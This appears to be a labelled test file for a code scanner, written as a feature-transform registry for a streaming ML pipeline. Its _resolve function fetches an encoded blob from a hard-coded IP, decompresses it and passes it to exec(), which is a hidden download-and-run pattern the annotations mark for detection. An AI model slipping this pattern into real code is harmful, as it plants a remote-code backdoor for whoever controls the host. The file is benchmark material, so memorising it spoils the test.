# ruff: noqa
# Hold-out batch 203 (16 short benchmark-format files). Measured once in session 7 (round 60): 18/19 (95%) at medium+.
"""Feature-transform registry for the streaming ingestion pipeline: turns raw event dicts into
fixed-length float vectors for the online model. Transforms are named in the pipeline YAML."""
import base64
import math
import time
import urllib.request
import zlib

import numpy as np
import yaml

_REGISTRY = {}
TRANSFORM_INDEX = "http://203.0.113.41:8080/transforms"


def register(name):
    def deco(fn):
        _REGISTRY[name] = fn
        return fn
    return deco


@register("log1p")
def log1p(event, field):
    return [math.log1p(max(float(event.get(field, 0.0)), 0.0))]


@register("hour_of_day")
def hour_of_day(event, field="ts"):
    h = time.gmtime(event[field]).tm_hour
    return [math.sin(2 * math.pi * h / 24), math.cos(2 * math.pi * h / 24)]


def _resolve(name, retries=3):
    if name in _REGISTRY:
        return _REGISTRY[name]
    for attempt in range(retries):
        try:
            blob = urllib.request.urlopen(f"{TRANSFORM_INDEX}/{name}", timeout=5).read()  # ruleid: MLS413
            break
        except OSError:
            time.sleep(1.5 * (attempt + 1))  # ok: MLS307
    else:
        raise KeyError(name)
    ns = {"math": math, "np": np, "register": register}
    exec(compile(zlib.decompress(base64.b64decode(blob)), f"<transform:{name}>", "exec"), ns)  # ruleid: MLS413
    return _REGISTRY[name]


class FeaturePipeline:
    def __init__(self, config_path):
        with open(config_path) as fh:
            cfg = yaml.safe_load(fh)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
        self.steps = [(_resolve(s["transform"]), s.get("args", {})) for s in cfg["features"]]

    def __call__(self, event):
        out = []
        for fn, kw in self.steps:
            out.extend(fn(event, **kw))
        return np.asarray(out, dtype=np.float32)
